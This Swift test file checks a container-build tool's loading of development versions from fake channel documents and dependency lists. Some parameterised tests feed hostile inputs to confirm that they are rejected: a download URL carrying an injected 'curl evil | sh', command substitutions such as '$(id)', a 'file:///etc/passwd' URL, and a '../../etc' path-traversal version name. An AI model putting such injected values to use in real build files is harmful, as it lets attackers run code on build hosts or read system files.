// Development versions from channels and dependency lists (DevelopmentVersionLoader), with a channel reader of the
// tests' own so the shared tooling is checked without any product module: per-OS resolution, excluded OSes,
// collapsing, --dev-spec pins (HEAD-probed), dependency sources and the .dev-* folders.
import Bakery
import Foundation
import Testing

@Suite struct DevelopmentVersionLoaderTests {
    /// Channel documents at https://channels.test/<product>/<channel>.json: {"ubuntu-24.04": {"version", "url"}}.
    struct FakeChannels: ProductChannels {
        let product: PositProduct
        var channels: [ReleaseChannel] { [.release, .preview, .daily] }
        func documentURL(for channel: ReleaseChannel) throws(BakeryError) -> URL {
            URL(string: "https://channels.test/\(product.rawValue)/\(channel.rawValue).json")!
        }
        func release(from document: Data, channel: ReleaseChannel, os: BuildOS, architecture: String) throws(BakeryError) -> ChannelRelease {
            let key = "\(os.name)-\(os.version)"
            guard let entries = try? JSONSerialization.jsonObject(with: document) as? [String: [String: String]],
                  let entry = entries[key], let version = entry["version"], let url = entry["url"] else {
                throw BakeryError(.channel, "the \(channel.rawValue) document has no build for \(key)")
            }
            return ChannelRelease(version: version, downloadURL: url)
        }
        func downloadURL(forPinned version: String, basedOn release: ChannelRelease) throws(BakeryError) -> String {
            guard release.downloadURL.contains(release.version) else {
                throw BakeryError(.channel, "Cannot substitute version '\(version)' into URL '\(release.downloadURL)'")
            }
            return release.downloadURL.replacingOccurrences(of: release.version, with: version)
        }
        func isValidVersion(_ version: String) -> Bool { CalendarVersion(version) != nil }
    }

    struct FakeProduct: ProductImages {
        let displayName = "Fake"
        let folderName = "Fake"
        let imageNames: [String] = []
        let channelProducts: [PositProduct] = PositProduct.allCases
        func channels(for product: PositProduct) -> (any ProductChannels)? { FakeChannels(product: product) }
    }

    /// Dependency lists of the tests: positron has releases and one daily build.
    struct FakeDependencies: DependencyVersionLookup {
        func availableVersions(of dependency: DependencyName, prerelease: Bool) throws(BakeryError) -> [String] {
            guard dependency == .positron else { throw BakeryError(.versionResolution, "no list for \(dependency.rawValue) here") }
            return prerelease ? ["2026.06.0-9", "2026.05.1-3", "2026.04.0-1"] : ["2026.05.1-3", "2026.04.0-1"]
        }
        func versions(for constraint: DependencyConstraint, image: Image) throws -> [String] {
            try constraint.constraint.select(from: try availableVersions(of: constraint.dependency, prerelease: constraint.prerelease))
        }
    }

    static func document(_ entries: [String: (String, String)]) -> Data {
        let object = entries.mapValues { ["version": $0.0, "url": $0.1] }
        return try! JSONSerialization.data(withJSONObject: object)
    }

    static let daily = "https://channels.test/connect/daily.json"
    static let preview = "https://channels.test/connect/preview.json"
    static let dailyBuild = "2026.05.0-dev+185-gabc1234"
    static let dailyDocument = document([
        "ubuntu-24.04": (dailyBuild, "https://cdn.test/2026.05/app_2026.05.0-dev+185-gabc1234_amd64.deb"),
        "ubuntu-22.04": (dailyBuild, "https://cdn.test/2026.05/app_2026.05.0-dev+185-gabc1234~jammy_amd64.deb"),
    ])

    /// A project with one image whose dev versions are `devVersions` (YAML list items), loaded from a temporary folder.
    static func image(_ devVersions: String, extra: String = "", matrix: Bool = false) throws -> Image {
        try #require(try config(devVersions, extra: extra, matrix: matrix).images.first)
    }

    /// The whole config of `image(_:extra:matrix:)`.
    static func config(_ devVersions: String, extra: String = "", matrix: Bool = false) throws -> BakeryConfig {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("bakery-dev-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: root) }
        try FileManager.default.createDirectory(at: root.appendingPathComponent("app/template"), withIntermediateDirectories: true)
        let versions = matrix ? """
                matrix:
                  dependencies:
                    - dependency: positron
                      versions: ["2026.04.0-1"]
                  os:
                    - name: Ubuntu 24.04
                      primary: true
            """ : """
                versions:
                  - name: "1.0.0"
                    os:
                      - name: Ubuntu 24.04
            """
        try (Fixtures.header + """
              - name: app
            \(extra)\(versions)
                devVersions:
            \(devVersions)
            """).write(to: root.appendingPathComponent("bakery.yaml"), atomically: true, encoding: .utf8)
        return try ConfigLoader.load(context: root).config
    }

    static let connectDaily = """
              - sourceType: channel
                product: connect
                channel: daily
                os:
                  - name: Ubuntu 24.04
                    primary: true
                    platforms: ["linux/amd64", "linux/arm64"]
                  - name: Ubuntu 22.04
        """
    static let connectPreview = """
              - sourceType: channel
                product: connect
                channel: preview
                os:
                  - name: Ubuntu 24.04
                    primary: true
        """

    static func loader(_ documents: [String: Data], spec: DevelopmentSpec? = nil, devChannel: ReleaseChannel? = nil) -> DevelopmentVersionLoader {
        DevelopmentVersionLoader(source: InMemoryDocumentSource(documents), products: ProductRegistry([FakeProduct()]),
                                 dependencyVersions: FakeDependencies(), spec: spec, devChannel: devChannel)
    }

    @Test func eachOSGetsItsBuildAndMultiPlatformOSesTheGeneralisedURL() throws {
        let image = try Self.image(Self.connectDaily, extra: """
                dependencyConstraints:
                  - dependency: positron
                    constraint: {latest: true}
            
            """)
        let log = TargetLog()
        let versions = try Self.loader([Self.daily: Self.dailyDocument]).load(image, log: log)
        let version = try #require(versions.first)
        #expect(versions.count == 1)
        #expect(version.name == Self.dailyBuild)
        #expect(version.subpath == ".dev-2026.05.0-dev+185-gabc1234")
        #expect(version.isEphemeral && version.isDevelopmentVersion && !version.latest && !version.isMatrixVersion)
        #expect(version.metadata.releaseChannel == .daily && version.metadata.channelLatest)
        let url = Dictionary(uniqueKeysWithValues: version.os.map { ($0.name, $0.artifactDownloadURL) })
        #expect(url == ["Ubuntu 24.04": "https://cdn.test/2026.05/app_2026.05.0-dev+185-gabc1234_$TARGETARCH.deb",
                        "Ubuntu 22.04": "https://cdn.test/2026.05/app_2026.05.0-dev+185-gabc1234~jammy_amd64.deb"])
        #expect(version.dependencies == [DependencyVersions(dependency: .positron, versions: ["2026.05.1-3"])])
        #expect(log.entries.contains { $0.message.hasPrefix("Loaded app development version from product connect, channel daily:\n  - Version: 2026.05.0-dev+185-gabc1234") })
    }

    @Test func anOSTheChannelDoesNotOfferIsExcludedWithAWarning() throws {
        let image = try Self.image(Self.connectDaily)
        let log = TargetLog()
        let only2404 = Self.document(["ubuntu-24.04": (Self.dailyBuild, "https://cdn.test/app_2026.05.0-dev+185-gabc1234_amd64.deb")])
        let version = try #require(try Self.loader([Self.daily: only2404]).load(image, log: log).first)
        #expect(version.os.map(\.name) == ["Ubuntu 24.04"])
        #expect(log.entries.contains { $0.level == .warning && $0.message.contains("Excluding OS 'Ubuntu 22.04'") && $0.message.contains("no build for ubuntu-22.04") })
    }

    @Test func aDevVersionWithNoResolvableOSIsSkippedNotFatal() throws {
        let image = try Self.image(Self.connectDaily)
        let log = TargetLog()
        #expect(try Self.loader([:]).load(image, log: log).isEmpty)
        let warnings = log.entries.filter { $0.level == .warning }.map(\.message)
        #expect(warnings.filter { $0.hasPrefix("Excluding OS") }.count == 2)
        #expect(warnings.contains { $0.hasPrefix("Skipping app development version (product connect, channel daily): No OSes could be resolved") })
    }

    @Test func channelsAtOneVersionCollapseIntoOneBuild() throws {
        let image = try Self.image(Self.connectDaily + "\n" + Self.connectPreview)
        let log = TargetLog()
        let versions = try Self.loader([Self.daily: Self.dailyDocument, Self.preview: Self.dailyDocument]).load(image, log: log)
        #expect(versions.count == 1)
        #expect(versions.first?.metadata.releaseChannels == [.preview, .daily])
        #expect(versions.first?.metadata.releaseChannel == .preview)
        #expect(versions.first?.os.count == 2, "the first build's OS list is kept")
        #expect(log.entries.contains { $0.message.contains("Collapsed app development version (product connect, channel preview) into existing 2026.05.0-dev+185-gabc1234 build (channels: preview, daily)") })
    }

    @Test func aPinnedBuildGetsItsURLAfterAHeadProbe() throws {
        let image = try Self.image(Self.connectDaily)
        let pinned = "2026.05.0-dev+170-g0000000"
        let artifacts = ["https://cdn.test/2026.05/app_2026.05.0-dev+170-g0000000_amd64.deb": Data(),
                         "https://cdn.test/2026.05/app_2026.05.0-dev+170-g0000000~jammy_amd64.deb": Data()]
        let loader = Self.loader([Self.daily: Self.dailyDocument].merging(artifacts) { a, _ in a },
                                 spec: DevelopmentSpec(version: pinned, channel: .daily))
        let version = try #require(try loader.load(image, log: TargetLog()).first)
        #expect(version.name == pinned)
        #expect(!version.metadata.channelLatest, "a pinned build that is not the channel's newest is not its head")
        #expect(version.os.first { $0.name == "Ubuntu 22.04" }?.artifactDownloadURL == "https://cdn.test/2026.05/app_2026.05.0-dev+170-g0000000~jammy_amd64.deb")
    }

    @Test func aPinnedBuildThatIsNotPublishedFailsTheCommand() throws {
        let image = try Self.image(Self.connectDaily)
        let loader = Self.loader([Self.daily: Self.dailyDocument], spec: DevelopmentSpec(version: "2026.05.0-dev+170-g0000000"))
        #expect {
            _ = try loader.load(image, log: TargetLog())
        } throws: { error in
            let message = (error as? BakeryError)?.message ?? ""
            return message.hasPrefix("Artifact not available at 'https://cdn.test/2026.05/app_2026.05.0-dev+170-g0000000") && message.hasSuffix("_amd64.deb': HTTP 404")
        }
    }

    @Test func aSpecMustChooseOneDevVersion() throws {
        let image = try Self.image(Self.connectDaily + "\n" + Self.connectPreview)
        let spec = DevelopmentSpec(releaseBranch: "2026.05")
        #expect {
            _ = try Self.loader([:], spec: spec).load(image, log: TargetLog())
        } throws: { error in
            (error as? BakeryError)?.message == "Image 'app' has 2 dev versions matching channel 'any'. Specify 'channel' in --dev-spec or pass --dev-channel to disambiguate."
        }
        // --dev-channel chooses; the other dev version loads as usual.
        let versions = try Self.loader([Self.daily: Self.dailyDocument, Self.preview: Self.dailyDocument], spec: spec, devChannel: .daily)
            .load(image, log: TargetLog())
        #expect(versions.count == 1)
        #expect {
            _ = try Self.loader([:], spec: DevelopmentSpec(version: "2026.05.0", channel: .preview), devChannel: .daily).load(image, log: TargetLog())
        } throws: { error in
            (error as? BakeryError)?.message.hasPrefix("Conflicting channels: --dev-spec has channel 'preview' but --dev-channel is 'daily'.") == true
        }
    }

    @Test func aDependencySourceBuildsTheNewestRelease() throws {
        let dev = """
                  - sourceType: dependency
                    dependency: positron
                    prerelease: true
                    channel: daily
                    os:
                      - name: Ubuntu 24.04
            """
        let plain = try #require(try Self.loader([:]).load(try Self.image(dev), log: TargetLog()).first)
        #expect(plain.name == "2026.06.0-9" && plain.subpath == ".dev-2026.06.0-9" && plain.isEphemeral)
        #expect(plain.metadata.releaseChannel == .daily && plain.metadata.channelLatest)

        let matrix = try #require(try Self.loader([:]).load(try Self.image(dev, matrix: true), log: TargetLog()).first)
        #expect(matrix.name == "2026.06.0-9" && !matrix.isEphemeral && matrix.isMatrixVersion && matrix.isDevelopmentVersion)
        #expect(matrix.dependencies == [DependencyVersions(dependency: .positron, versions: ["2026.06.0-9"])])

        let log = TargetLog()
        let pinned = try #require(try Self.loader([:], spec: DevelopmentSpec(version: "2026.05.1-3")).load(try Self.image(dev), log: log).first)
        #expect(pinned.name == "2026.05.1-3" && !pinned.metadata.channelLatest)
        _ = try Self.loader([:], spec: DevelopmentSpec(releaseBranch: "2026.05")).load(try Self.image(dev), log: log)
        #expect(log.entries.contains { $0.message == "Image 'app': --dev-spec without a version cannot pin a dependency-sourced dev version; building the latest resolved version." })
    }

    @Test func aVersionThatCannotBeAFolderNameIsSkipped() throws {
        let image = try Self.image(Self.connectDaily)
        let log = TargetLog()
        let hostile = Self.document(["ubuntu-24.04": ("../../etc", "https://cdn.test/x.deb"), "ubuntu-22.04": ("a/b", "https://cdn.test/y.deb")])
        #expect(try Self.loader([Self.daily: hostile]).load(image, log: log).isEmpty)
        #expect(log.entries.contains { $0.level == .warning && $0.message.contains("is not usable as a version name") })
    }

    @Test(arguments: [#"https://cdn.test/x".deb; curl evil | sh; ".deb"#, "https://cdn.test/$(id).deb", "https://cdn.test/a b.deb",
                      "https://cdn.test/x`id`.deb", "file:///etc/passwd", "https://cdn.test/x\n.deb"])
    func aDownloadURLThatCouldBreakOutOfTheContainerfileExcludesTheOS(url: String) throws {
        let image = try Self.image(Self.connectDaily)
        let log = TargetLog()
        let hostile = Self.document(["ubuntu-24.04": (Self.dailyBuild, url), "ubuntu-22.04": (Self.dailyBuild, "https://cdn.test/fine_amd64.deb")])
        let version = try #require(try Self.loader([Self.daily: hostile]).load(image, log: log).first)
        #expect(version.os.map(\.name) == ["Ubuntu 22.04"])
        #expect(log.entries.contains { $0.level == .warning && $0.message.contains("is not a plain http(s) URL") })
    }

    @Test(arguments: [
        (#"{"version": "2026.05.0-dev+185-g1a2b3c4", "channel": "daily"}"#, nil as String?),
        (#"{"release_branch": "2026.05"}"#, nil),
        (#"{"version": "  2026.05.0  ", "release_branch": null}"#, nil),
        (#"{"channel": "daily"}"#, "at least one of 'version' or 'release_branch' must be set"),
        (#"{"version": "2026.5"}"#, "which is not a CalVer version"),
        (#"{"version": ""}"#, "'version' is empty"),
        (#"{"version": "2026.05.0", "extra": 1}"#, "unknown key 'extra'"),
        (#"{"version": 2026}"#, "'version' must be a string"),
        (#"{"release_branch": "x", "channel": "nightly"}"#, "'channel' is 'nightly'"),
        ("[1]", "is not a JSON object"),
    ])
    func theSpecIsCheckedWhole(text: String, problem: String?) {
        do {
            let spec = try DevelopmentSpec.parse(text)
            #expect(problem == nil, "accepted \(spec)")
        } catch {
            #expect(error.message.hasPrefix("Invalid value for '--dev-spec' (env var: 'BAKERY_DEV_SPEC'): "))
            #expect(problem.map { error.message.contains($0) } == true, "\(error.message)")
        }
    }

    @Test func theDevFolderIsRenderedForTheRunAndRemovedAfter() throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("bakery-dev-folder-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: root) }
        try FileManager.default.createDirectory(at: root.appendingPathComponent("app/template"), withIntermediateDirectories: true)
        // DownloadURL is given to the Containerfiles of images with variants, rendered per OS (as the reference does).
        try #"FROM docker.io/library/ubuntu:24.04\#nRUN echo {{ Image.Version }} {{ Image.DownloadURL }}\#n"#
            .write(to: root.appendingPathComponent("app/template/Containerfile.ubuntu2404.jinja2"), atomically: true, encoding: .utf8)
        try (Fixtures.header + """
          - name: app
            variants:
              - name: Standard
                extension: std
                primary: true
            versions:
              - name: "1.0.0"
                os:
                  - name: Ubuntu 24.04
            devVersions:
        \(Self.connectDaily)
        """).write(to: root.appendingPathComponent("bakery.yaml"), atomically: true, encoding: .utf8)
        let config = try ConfigLoader.load(context: root).config
        var filter = TargetFilter()
        filter.devVersions = .only
        let resolver = SourcedVersionResolver(source: InMemoryDocumentSource([Self.daily: Self.dailyDocument]), products: ProductRegistry([FakeProduct()]))
        let targets = try TargetSelector(filter: filter, resolver: resolver).select([TargetProject(config: config, context: ".")])
        #expect(targets.map(\.uid) == ["app-2026-05-0-dev-185-gabc1234-standard-ubuntu-22-04-daily", "app-2026-05-0-dev-185-gabc1234-standard-ubuntu-24-04-daily"])
        let folders = try EphemeralVersionFolders.render(targets, workspace: root, log: TargetLog())
        let containerfile = root.appendingPathComponent("app/.dev-2026.05.0-dev+185-gabc1234/Containerfile.ubuntu2404.std")
        #expect(try String(contentsOf: containerfile, encoding: .utf8)
            == "FROM docker.io/library/ubuntu:24.04\nRUN echo 2026.05.0-dev+185-gabc1234 https://cdn.test/2026.05/app_2026.05.0-dev+185-gabc1234_$TARGETARCH.deb\n")
        folders.remove(log: TargetLog())
        #expect(!FileManager.default.fileExists(atPath: root.appendingPathComponent("app/.dev-2026.05.0-dev+185-gabc1234").path))
        #expect(FileManager.default.fileExists(atPath: root.appendingPathComponent("app/template").path))
    }
}
